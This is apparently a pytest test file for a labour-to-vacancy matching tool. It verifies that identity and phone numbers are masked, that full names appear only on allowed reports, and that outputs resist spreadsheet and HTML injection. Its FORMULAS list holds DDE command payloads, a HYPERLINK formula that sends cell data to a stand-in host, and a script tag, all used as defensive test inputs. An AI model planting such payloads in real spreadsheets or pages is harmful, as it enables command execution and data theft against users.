"""No number that identifies leaves in clear, and nothing that is written can be run."""

from __future__ import annotations

import csv
import html
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from support.commands import COUNTY, DAY, Here, Ran, files_in
from support.identity import disability_number, fifteen_digits, identity_number, wrong_checksum
from support.rosters import NAMES, grid_of, person, vacancy, vacancy_grid, write_xlsx

from matcher.io.columns import LABOURER_COLUMNS, VACANCY_COLUMNS

KEYS = tuple(column.key for column in LABOURER_COLUMNS)
FORMULAS = (
    '=cmd|"/c calc"!A1',
    "@SUM(1+1)*cmd|' /c calc'!A0",
    "+1+1",
    "-2+3",
    '=HYPERLINK("http://x.example/?"&A1,"看")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)
FULL_NAMES = (
    *("problems.xlsx", "待复核人员.xlsx", "转岗推荐.xlsx"),
    *("岗位推荐名单（内部使用）", "村级推荐通知单", "个人推荐单"),
)
"""Papers on which a full name may stand."""


def number_of(order: int) -> str:
    return identity_number(date(1979, 3, 4), order=order)


def phone_of(order: int) -> str:
    return f"139{order:04}5678"


def spellings(order: int) -> tuple[str, ...]:
    """Ways in which people write the two numbers."""
    number, phone = number_of(order), phone_of(order)
    return (
        *(number, f"{number[:6]} {number[6:14]} {number[14:]}", f"{number[:6]}-{number[6:]}"),
        *(
            phone,
            f"{phone[:3]} {phone[3:7]} {phone[7:]}",
            f"+86{phone}",
            f"{phone[:3]}-{phone[3:]}",
        ),
    )


@dataclass
class Everything:
    """A folder of results and what the commands said beside them."""

    folder: Path
    said: str = ""


def texts_in(folder: Path, said: str) -> Iterator[tuple[str, str]]:
    """Everything that was written or said, with where."""
    yield "the terminal", said
    for name in files_in(folder):
        yield "a file's name", name
        for part, text in parts_of(folder / name).items():
            yield f"{name}:{part}", text


def parts_of(path: Path) -> dict[str, str]:
    if path.suffix != ".xlsx":
        return {"": html.unescape(path.read_text(encoding="utf-8-sig"))}
    with zipfile.ZipFile(path) as archive:
        return {
            part: html.unescape(archive.read(part).decode("utf-8")) for part in archive.namelist()
        }


def roster() -> list[list[object]]:
    """Numbers in their own columns in every state, and somebody's numbers in every column."""
    return grid_of([*_whole_people(), *_odd_people()], KEYS)  # type: ignore[return-value]


def _whole_people() -> Iterator[dict[str, object]]:
    for order, sign in enumerate("甲乙丙丁戊己庚辛壬癸子丑寅卯辰巳"):
        number = number_of(order)
        states = (
            *(number, disability_number(number), fifteen_digits(number), wrong_checksum(number)),
            *(number.lower(), f"'{number}", number[:17], f"{number}/{number_of(40)}"),
        )
        yield person(
            order,
            name=f"赵生{sign}",
            identity=states[order % len(states)],
            phone=phone_of(order),
            town="河田镇",
            village=("露湖村", "蔡坊村")[order % 2],
            household=f"H{order // 2}",
            relation="户主",
            wanted_trades="缝纫工",
            skills="会缝纫",
            employed="是" if order in {5, 6} else "否",
            ability="丧失劳动力" if order == 7 else "普通劳动力",
        )


def _odd_people() -> Iterator[dict[str, object]]:
    for place, key in enumerate(key for key in KEYS if key not in {"identity", "phone"}):
        order = 16 + place % 8
        number, phone = number_of(20 + place), phone_of(20 + place)
        one = person(order, identity=number, phone=phone, town="河田镇", village="露湖村")
        yield one | {key: f"{NAMES[key]}{spellings(order)[place % 7]}"}


def adverts() -> list[list[object]]:
    rows = [vacancy(0, phone=phone_of(60), contact="钱某", town="河田镇")]
    for place, column in enumerate(VACANCY_COLUMNS):
        shown = spellings(61 + place % 8)[place % 7]
        about = ("工号", "押金")[place % 2]
        rows.append(vacancy(place) | {column.key: f"缝纫工 {about}{shown}"})
    return vacancy_grid(rows)  # type: ignore[return-value]


@pytest.fixture(scope="module")
def sources(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    folder = tmp_path_factory.mktemp("planted")
    labourers = folder / f"名册{number_of(80)}.xlsx"
    vacancies = folder / f"岗位{phone_of(81)}.xlsx"
    write_xlsx(labourers, {f"村{phone_of(82)}": roster()})
    write_xlsx(vacancies, {f"岗{number_of(83)}": adverts()})
    return labourers, vacancies


def run_all(here: Here, sources: tuple[Path, Path], folder: Path) -> str:
    """Every command on the two files; what they said."""
    files = ("--labourers", sources[0], "--vacancies", sources[1])
    rans = [
        here("read", *files, *COUNTY, *DAY, "--out", folder / "读出"),
        here("match", *files, *COUNTY, *DAY, "--out", folder / "结果", "--pages"),
        here("diff", folder / "结果", folder / "结果", "--out", folder / "差别"),
    ]
    for row in range(1, 12):
        for shape in ((), ("--json",)):
            rows = ("--labourer-row", row, "--vacancy-row", row, *shape)
            rans.append(here("explain", *files, *COUNTY, *DAY, *rows))
    assert [ran.code for ran in rans] == [0] * len(rans)
    wrong = here("match", "--labourers", sources[1], "--vacancies", sources[0], "--out", folder)
    assert wrong.code == 2
    return "\n".join(ran.out + ran.err for ran in (*rans, wrong))


@pytest.fixture(scope="module")
def everything(tmp_path_factory: pytest.TempPathFactory) -> Everything:
    """Filled by the first test that asks."""
    return Everything(tmp_path_factory.mktemp("everything"))


@pytest.fixture
def results(everything, sources, here) -> Everything:
    """What every command wrote and said."""
    if not everything.said:
        everything.said = run_all(here, sources, everything.folder)
    return everything


def test_no_number_is_in_clear_anywhere(sources, results) -> None:
    numbers = {text for order in range(90) for text in spellings(order)}
    numbers |= {fifteen_digits(number_of(order)) for order in range(90)}
    numbers |= {number_of(order)[:17] for order in range(90)}
    for source in sources:
        with zipfile.ZipFile(source) as archive:
            written = archive.read("xl/sharedStrings.xml").decode("utf-8")
        assert sum(number in written for number in numbers) > 10, "they are in the input"
    pattern = re.compile("|".join(map(re.escape, sorted(numbers, key=len, reverse=True))))
    found = [
        (where, hit[0])
        for where, text in texts_in(results.folder, results.said)
        if (hit := pattern.search(text))
    ]
    assert found == []


def test_masks_are_there_instead(results) -> None:
    number, phone = number_of(0), phone_of(0)
    masks = (f"{number[:2]}{'*' * 13}{number[-3:]}", f"{phone[:3]}****{phone[-4:]}")
    read = (results.folder / "读出" / "labourers_read.csv").read_text(encoding="utf-8")
    problems = "".join(parts_of(results.folder / "结果" / "problems.xlsx").values())
    for mask in masks:
        assert mask in read
        assert mask in problems


def test_full_names_stand_only_where_they_may(results) -> None:
    found = set()
    for where, text in texts_in(results.folder, results.said):
        if re.search("赵生[一-龥]", text):
            name = where.split(":")[0]
            assert any(part in FULL_NAMES for part in name.split("/")), name
            found.add(next(part for part in name.split("/") if part in FULL_NAMES))
    assert found == set(FULL_NAMES)


def test_papers_for_employers_hold_nobody(results) -> None:
    books = list((results.folder / "结果" / "岗位推荐名单（交用人单位）").iterdir())
    assert books
    for path in books:
        text = "".join(parts_of(path).values())
        for word in ("赵生", "健康", "普通劳动力", "低保", "贫困", "露湖村", "H0"):
            assert word not in text


# ---------------------------------------------------------------- formulas


@pytest.fixture(scope="module")
def injected(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """Formulas as names and everywhere else where people write freely."""
    folder = tmp_path_factory.mktemp("injected")
    keys = ("town", "village", "wanted_trades", "skills", "experience", "remarks", "contact")
    people = [
        person(number, name=formula, **dict.fromkeys(keys, formula), household=formula)
        for number, formula in enumerate(FORMULAS)
    ]
    people.append(person(30, name="+1", town="-1", village="=1"))
    jobs = [
        vacancy(
            number, employer=formula, title=f"{formula}缝纫工", description=formula,
            skills=formula, contact=formula, wage=f"{formula} 3000元/月", shift=formula,
        )
        for number, formula in enumerate(FORMULAS)
    ]  # fmt: skip
    labourers, vacancies = folder / "=1+1.xlsx", folder / "@岗位.xlsx"
    write_xlsx(labourers, {"=1+1": grid_of(people, KEYS)})
    write_xlsx(vacancies, {"+岗位": vacancy_grid(jobs)})
    return labourers, vacancies


@pytest.fixture
def injected_results(injected, here, tmp_path: Path) -> Path:
    files = ("--labourers", injected[0], "--vacancies", injected[1], *COUNTY, *DAY, "--quiet")
    assert here("read", *files, "--out", tmp_path / "读出") == Ran(0, "", "")
    assert here("match", *files, "--out", tmp_path / "结果", "--pages") == Ran(0, "", "")
    return tmp_path


def test_workbooks_hold_no_formula_no_link_and_no_macro(injected_results: Path) -> None:
    books = list(injected_results.rglob("*.xlsx"))
    assert len(books) > 8
    planted = 0
    for path in books:
        parts = parts_of(path)
        assert not [part for part in parts if re.search("external|vba|macro|connections", part)]
        for part, text in parts.items():
            if part.startswith("xl/worksheets/"):
                assert "<f>" not in text
                assert "<f " not in text
                assert "<hyperlink" not in text
            if part.endswith(".rels"):
                assert 'TargetMode="External"' not in text
        for sheet in load_workbook(path):
            for row in sheet.iter_rows():
                assert all(cell.data_type != "f" and cell.hyperlink is None for cell in row)
                planted += sum(str(cell.value).startswith(("=", "+", "-", "@")) for cell in row)
    assert planted > 10, "the words stand there, as words"


def test_tables_hold_no_cell_that_a_spreadsheet_would_run(injected_results: Path) -> None:
    harmless = re.compile(r"[+-]\d+(?:\.\d+)?")
    tables = list(injected_results.rglob("*.csv"))
    assert len(tables) > 8
    defused = 0
    for path in tables:
        with path.open(encoding="utf-8-sig", newline="") as file:
            for row in csv.reader(file):
                for cell in row:
                    start = cell.lstrip(" \u3000")[:1]
                    assert start not in set("=+-@\t\r＝＋－＠") or harmless.fullmatch(cell), cell
                    defused += cell.startswith("'")
    assert defused > 5


def test_the_page_runs_nothing(here, tmp_path: Path) -> None:
    script = "<script>alert(1)</script>"
    files = (tmp_path / "a.xlsx", tmp_path / "b.xlsx")
    people = [person(number, town=f"{script}镇", wanted_trades="缝纫工") for number in range(4)]
    write_xlsx(files[0], {"a": grid_of(people, KEYS)})
    write_xlsx(files[1], {"b": vacancy_grid([vacancy(0, title=f"缝纫工{script}")])})
    order = ("match", "--labourers", files[0], "--vacancies", files[1], *DAY, "--quiet", "--out")
    assert here(*order, tmp_path / "o").code == 0
    page = (tmp_path / "o" / "summary.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;" in page
    assert "<script" not in page
